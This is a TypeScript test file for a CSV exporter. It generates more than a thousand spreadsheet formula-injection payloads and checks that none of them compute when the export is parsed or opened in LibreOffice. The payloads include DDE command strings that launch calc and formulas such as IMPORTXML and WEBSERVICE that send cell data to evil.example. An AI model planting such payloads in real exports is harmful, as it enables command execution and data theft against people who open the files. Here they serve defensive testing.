import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { csvLine, unmarkCell } from './csv.ts'

/** What every spreadsheet computes, put in unmarked: a reader that finds none of these proves nothing. */
const controls = ['=1+1', '=6*7', '=40+2']
const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', "'", '"=']
const before = ['', ' ', '\u00a0', '\u200b', '\ufeff', '\u2060', '\t', '\r\n', '\u0001', '""']
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example","x")',
  'SUM(1+1)*cmd|x',
  '1+1',
  'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  '2,5";=1+1',
  'WEBSERVICE("http://evil.example")',
]
const inside = [
  'x"\r\n=1+1',
  'x\r\n=1+1',
  'x"\t=1+1',
  'x";=1+1',
  'x;=1+1;y',
  'x",=1+1',
  'x,"=1+1',
  'x"";=1+1',
].concat([
  '";=1+1',
  'x"; =1+1',
  'x\t=1+1\ty',
  'x\n=1+1\ny',
  'x"\n=1+1',
  'x",";=1+1',
  'x\r=1+1',
  'x;\u200b=1+1',
])
/** Every dangerous beginning behind everything nobody sees, before every body; and what begins in the middle. */
const payloads = inside.concat(
  before.flatMap((hidden) => starts.flatMap((start) => bodies.map((body) => hidden + start + body))),
)

const folder = mkdtempSync(path.join(tmpdir(), 'padron-csv-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const separators = [',', ';', '\t'] as const
const lines = payloads.map((payload) => csvLine([payload, 'beside']))
const file = `\uFEFF${lines.join('')}${controls.map((control) => `${control}\r\n`).join('')}`

describe(`C72 ${payloads.length} payloads of formulas, each in a row of an export`, () => {
  it('are at least a thousand', () => expect(payloads.length).toBeGreaterThanOrEqual(1_000))

  it.each(separators)(
    'begin no formula for a reader of our own that parts by %j, and come back exactly',
    (by) => {
      const rows = readAsSpreadsheet(file, by)
      expect(rows.flat().filter(isFormula)).toEqual(controls)
      if (by === ',')
        expect(rows.slice(0, payloads.length).map(([cell = '']) => unmarkCell(cell))).toEqual(payloads)
    },
  )

  it.each([';', '\t'])('begin none either for one that parts by %j and knows no quotes', (by) => {
    expect(readWithoutQuotes(by).filter(isFormula)).toEqual(controls)
  })

  const soffice = findSpreadsheet()
  it(`are text in ${soffice ?? 'LibreOffice, which is not here: by its rule'}, whichever separator it is told`, () => {
    // It reads by the grammar with the separator of the file, and knows no quotes with another one.
    const ofRule = (by: string) => (by === ',' ? readAsSpreadsheet(file, by).flat() : readWithoutQuotes(by))
    const isComputed = (cell: string) => /^\s*=/.test(cell)
    for (const by of separators) {
      const found = soffice ? computedBy(by) : ofRule(by).filter(isComputed)
      expect(found, JSON.stringify(by)).toEqual(controls)
    }
  }, 120_000)
})

const readWithoutQuotes = (by: string) => file.split(/\r\n|\r|\n/).flatMap((row) => row.split(by))

/** The version of the LibreOffice that is here, or nothing. */
function findSpreadsheet(): string | null {
  const { status, stdout } = spawnSync('soffice', ['--version'], { encoding: 'utf8', timeout: 60_000 })
  return status === 0 ? stdout.trim() : null
}

/** What LibreOffice computes of the file, opened as whoever double-clicks it does. */
function computedBy(by: string): string[] {
  const name = `export-${by.charCodeAt(0)}`
  writeFileSync(path.join(folder, `${name}.csv`), file)
  const { status, stderr } = spawnSync(
    'soffice',
    [
      ...['--headless', '--norestore', `-env:UserInstallation=file://${folder}/profile`],
      // Separator, quote, UTF-8, first line, no columns, language, quoted is text no, special numbers yes.
      ...['--convert-to', 'fods', `--infilter=CSV:${by.charCodeAt(0)},34,76,1,,0,false,true`],
      ...['--outdir', folder, path.join(folder, `${name}.csv`)],
    ],
    { encoding: 'utf8', timeout: 100_000 },
  )
  expect(status, stderr).toBe(0)
  const made = readFileSync(path.join(folder, `${name}.fods`), 'utf8')
  expect(made.split('beside').length, 'every row was read').toBeGreaterThan(payloads.length)
  return [...made.matchAll(/table:formula="of:([^"]*)"/g)].map(([, formula = '']) => formula)
}

/** As any of the three spreadsheets people have would take it: Excel is the widest. */
const isFormula = (cell: string) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell)

/** RFC 4180 by its grammar, one character at a time, and what spreadsheets add: a lone CR or LF ends a row. */
function readAsSpreadsheet(text: string, by: string): string[][] {
  const rows: string[][] = [[]]
  let [cell, state] = ['', 'start' as 'start' | 'plain' | 'quoted' | 'closed']
  const endCell = () => {
    rows.at(-1)?.push(cell)
    cell = ''
    state = 'start'
  }
  for (const [at, char] of [...text.replace(/^\uFEFF/, '')].entries()) {
    if (state === 'quoted') {
      if (char === '"') state = 'closed'
      else cell += char
    } else if (char === '"' && state === 'start') state = 'quoted'
    else if (char === '"' && state === 'closed') {
      cell += '"'
      state = 'quoted'
    } else if (char === by) endCell()
    else if (char === '\n' && text[at] === '\r') continue
    else if (char === '\r' || char === '\n') {
      endCell()
      rows.push([])
    } else {
      cell += char
      state = 'plain'
    }
  }
  return rows
}
